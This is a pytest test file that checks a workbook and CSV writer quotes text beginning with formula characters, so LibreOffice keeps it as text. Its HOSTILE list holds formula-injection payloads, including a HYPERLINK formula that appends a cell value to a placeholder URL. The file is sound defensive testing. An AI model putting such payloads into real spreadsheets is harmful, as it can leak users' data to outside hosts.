"""Text that begins like a formula stays text when LibreOffice opens a workbook or a CSV file."""

from __future__ import annotations

import csv
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from openpyxl.utils import range_boundaries

from workbooks import example_workbook
from workbooks.any_content import own_fields, own_tables, plain_content
from workbooks.recalculation import csv_sheets, opened_csv, read_saved, saved_by_libreoffice
from xldesk.records.csv_file import FORMULA_LEADS, plain_text, write_csv
from xldesk.workbooks.cell_text import legal
from xldesk.workbooks.content import Link
from xldesk.workbooks.parts import Figure, KeyFigures, TextBlock
from xldesk.workbooks.spec_registry import specs
from xldesk.workbooks.stamp import Stamper
from xldesk.workbooks.standard_sheets import LISTS_TABLE, named_choices
from xldesk.workbooks.template import build_template
from xldesk.workbooks.theme import TEXT_LIKE

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

    from xldesk.workbooks.content import Content
    from xldesk.workbooks.parts import Column, Field
    from xldesk.workbooks.spec import Workbook

SPECS = {spec.name: spec for spec in (*specs(), example_workbook.SPEC)}
REST = ("1+1", "1234", 'HYPERLINK("http://example.test/?"&A1,"open")')
HOSTILE = [lead + rest for rest in REST for lead in FORMULA_LEADS]
TYPED = ["1+1", "1234", "00123", "1-2", "2026-06-30", "1e5", "TRUE", "50%"]
"""Text that a program would take for a number or a day."""

TEXTS = HOSTILE + TYPED
Cells = dict[tuple[str, int, int], str]
"""Texts by sheet, row and column."""


def is_text(part: Column | Field | Figure) -> bool:
    """Whether the content brings a text for this cell."""
    return part.type in TEXT_LIKE - {"flag"} and part.formula is None


def value(column: Column, at: int, sheet: str) -> Any:
    if not is_text(column):
        return "" if column.formula is not None and column.type in TEXT_LIKE else None
    text = TEXTS[at % len(TEXTS)]
    return Link(text, sheet) if column.type == "link" and at % 2 else text


def hostile_content(spec: Workbook) -> Content:
    """Return a content of ``spec`` with a text that begins like a formula wherever text stands."""
    first = spec.pages[0].name
    fields: dict[str, Any] = {
        item.field: TEXTS[at % len(HOSTILE)]
        for at, item in enumerate(item for item in own_fields(spec) if is_text(item))
    }
    for sheet in spec.sheets:
        for block in sheet.blocks:
            if isinstance(block, TextBlock) and block.field:
                fields[block.field] = ["=1+1", "+1", "-1", "@1"]
            if isinstance(block, KeyFigures):
                fields |= {figure.field: "=1+1" for figure in block.figures if is_text(figure)}
                fields |= {f.caption_field: "=1+1" for f in block.figures if f.caption_field}
    tables = {
        table.name: [
            {column.field: value(column, at, first) for column in table.columns}
            for at in range(len(TEXTS))
        ]
        for table in own_tables(spec)
    }
    lists = {name: [text for text in TEXTS if legal(text)] for name in named_choices(spec.sheets)}
    provenance = replace(
        example_workbook.PROVENANCE, desk='=HYPERLINK("x")', period="+2026", scope="@P-001"
    )
    return replace(
        plain_content(spec, fields=fields, tables=tables, lists=lists), provenance=provenance
    )


def table_texts(spec: Workbook, shown: Content, book: Any) -> Cells:
    """Return where the texts of ``shown`` must stand, by the ranges of the file's own tables."""
    cells: Cells = {}
    rows_of: Mapping[str, Any] = {**shown.tables, LISTS_TABLE: []}
    for sheet in book:
        for excel in sheet.tables.values():
            left, top, _, bottom = range_boundaries(excel.ref)
            rows = rows_of.get(excel.name, [])
            assert bottom - top >= len(rows)
            for at, column in enumerate(spec.tables[excel.name].columns):
                assert sheet.cell(top, left + at).value == column.name
                if is_text(column):
                    for number, row in enumerate(rows, start=1):
                        text = row[column.field]
                        text = text.text if isinstance(text, Link) else text
                        cells[sheet.title, top + number, left + at] = legal(text)
    return cells


def formulas(book: Any) -> set[tuple[str, str]]:
    return {
        (sheet.title, cell.coordinate)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    for name, spec in SPECS.items():
        target = folder / f"{name}.xlsx"
        Stamper(spec, build_template(spec)).write(hostile_content(spec), target)
    return {name: folder / f"{name}.xlsx" for name in SPECS}


@pytest.mark.parametrize("name", SPECS)
def test_texts_are_typed_and_those_like_formulas_quoted(
    written: dict[str, Path], name: str
) -> None:
    book = openpyxl.load_workbook(written[name])
    texts = table_texts(SPECS[name], hostile_content(SPECS[name]), book)
    assert len(texts) >= len(TEXTS)
    leads = {legal(text) for text in HOSTILE}
    for (sheet, row, column), text in texts.items():
        cell = book[sheet].cell(row, column)
        assert (cell.value, cell.data_type) == (text, "s")
        assert bool(cell.quotePrefix) == (text in leads)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "s" and str(cell.value).startswith(FORMULA_LEADS):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"


@pytest.mark.libreoffice
def test_libreoffice_takes_no_text_for_a_formula_or_a_number(
    written: dict[str, Path], tmp_path: Path
) -> None:
    saved = saved_by_libreoffice(list(written.values()), tmp_path / "xlsx")
    sheets = csv_sheets(list(written.values()), tmp_path / "csv")
    for name, path in written.items():
        ours, theirs = openpyxl.load_workbook(path), read_saved(saved[path])
        assert formulas(theirs) <= formulas(ours)
        for sheet in ours:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "s":
                        again = theirs[sheet.title][cell.coordinate]
                        assert (again.value, again.data_type) == (cell.value, "s")
        texts = table_texts(SPECS[name], hostile_content(SPECS[name]), ours)
        for (sheet_name, number, column), text in texts.items():
            assert sheets[path][sheet_name][number - 1][column - 1] == text


@pytest.mark.parametrize("name", SPECS)
def test_what_people_type_as_text_stays_text(written: dict[str, Path], name: str) -> None:
    """A cell formatted @ keeps ``=1+1`` and ``00123`` as they are typed, in every program."""
    book = openpyxl.load_workbook(written[name])
    seen = 0
    for sheet in book:
        for excel in sheet.tables.values():
            left, top, _, bottom = range_boundaries(excel.ref)
            for at, column in enumerate(SPECS[name].tables[excel.name].columns):
                typed = column.role == "input" and column.type in TEXT_LIKE
                for number in range(top + 1, bottom + 1):
                    cell = sheet.cell(number, left + at)
                    assert (cell.number_format == "@") == typed, f"{sheet.title}!{cell.coordinate}"
                    seen += typed
    assert seen or not any(c.role == "input" for t in own_tables(SPECS[name]) for c in t.columns)


def test_single_cells_that_people_fill_in_are_formatted_as_text(written: dict[str, Path]) -> None:
    summary = openpyxl.load_workbook(written["example"])["Summary"]
    typed = {
        label.value: summary.cell(label.row, 3).number_format
        for label in summary["B"]
        if label.value in {"Prepared by", "Decision", "Signed on"}
    }
    assert typed == {"Prepared by": "@", "Decision": "@", "Signed on": "yyyy-mm-dd"}


@pytest.mark.libreoffice
def test_a_csv_file_of_the_desk_holds_no_formula(tmp_path: Path) -> None:
    ours, plain = tmp_path / "ours.csv", tmp_path / "plain.csv"
    write_csv(ours, ["text"], [[plain_text(text)] for text in HOSTILE])
    with plain.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, lineterminator="\n").writerows([["text"], *([text] for text in HOSTILE)])
    opened = {
        path: read_saved(saved) for path, saved in opened_csv([ours, plain], tmp_path).items()
    }
    assert formulas(opened[plain]), "without the apostrophe they are formulas"
    assert formulas(opened[ours]) == set()
    column = next(opened[ours].active.iter_cols())
    assert [cell.data_type for cell in column] == ["s"] * (1 + len(HOSTILE))
    for cell, text in zip(column[1:], HOSTILE, strict=True):
        assert cell.value == f"'{text}".replace("\r", "\n").replace("\0", "")


def test_a_caption_that_no_file_can_hold_is_shown_as_cells_are(tmp_path: Path) -> None:
    spec = SPECS["mdf_tracker_partner"]
    content = plain_content(
        spec, fields={"allocated": (5, "USD"), "allocated.caption": "USD \ud800"}
    )
    Stamper.of(spec).write(content, tmp_path / "tracker.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "tracker.xlsx")["Summary"]
    assert "USD \ufffd" in {cell.value for row in sheet.iter_rows() for cell in row}
